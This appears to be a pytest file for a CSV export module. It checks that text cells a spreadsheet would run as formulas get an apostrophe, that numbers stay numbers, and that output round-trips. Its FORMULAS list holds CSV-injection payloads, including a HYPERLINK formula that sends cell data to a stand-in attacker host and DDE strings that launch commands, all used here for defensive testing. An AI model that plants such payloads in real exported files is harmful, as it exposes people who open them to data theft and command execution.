"""The one CSV writer: a spreadsheet never runs a cell as a formula, numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from core.sheets import SheetWriter, cell, csv_lines, csv_text, defuse, restore

# OWASP's CSV-injection payloads and their cousins: each would run in Excel or Sheets.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "-> analysts",
    "=",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_and_comes_back(text):
    assert defuse(text) == "'" + text
    assert restore(defuse(text)) == text


@pytest.mark.parametrize("number", ["-900.50", "+12", "-0.000005", "1e3", "-2.5E-4", ".5", "-7."])
def test_a_plain_number_is_left_a_number(number):
    assert defuse(number) == number
    assert restore(number) == number


@pytest.mark.parametrize("text", ["'quoted", "''twice", "'=already defused"])
def test_text_starting_with_an_apostrophe_survives_the_round_trip(text):
    assert defuse(text) == "'" + text
    assert restore(defuse(text)) == text


@pytest.mark.parametrize("text", ["Intermediate tables", "売上ダッシュボード", "a=b", "1-2", ""])
def test_ordinary_text_is_untouched(text):
    assert defuse(text) == text


def test_cells_of_each_type():
    moment = datetime.datetime(2026, 12, 3, 9, 30, tzinfo=datetime.UTC)
    assert [cell(v) for v in (None, 3, Decimal("-12.50"), True, moment)] == [
        "", "3", "-12.50", "True", "2026-12-03T09:30:00+00:00",
    ]  # fmt: skip
    assert cell(datetime.date(2026, 12, 3)) == "2026-12-03"
    assert cell({"team": "=x"}) == '{"team": "=x"}'
    assert cell("=1+1") == "'=1+1"


def test_the_writer_defuses_every_text_cell_and_ends_rows_in_crlf():
    out = io.StringIO()
    writer = SheetWriter(out)
    writer.header(["name", "amount"])
    writer.row(["=cmd", Decimal("-5")])
    writer.row(["@x", -5])
    assert out.getvalue() == "name,amount\r\n'=cmd,-5\r\n'@x,-5\r\n"


def test_streamed_and_whole_text_agree_and_read_back():
    rows = [["=a", 1], ["b", None]]
    streamed = "".join(csv_lines(["x", "y"], rows))
    assert streamed == csv_text(["x", "y"], rows)
    assert streamed.startswith("\ufeff")
    assert csv_text(["x", "y"], rows, bom=False) == streamed.removeprefix("\ufeff")
    read = list(csv.reader(io.StringIO(streamed.removeprefix("\ufeff"))))
    assert read == [["x", "y"], ["'=a", "1"], ["b", ""]]
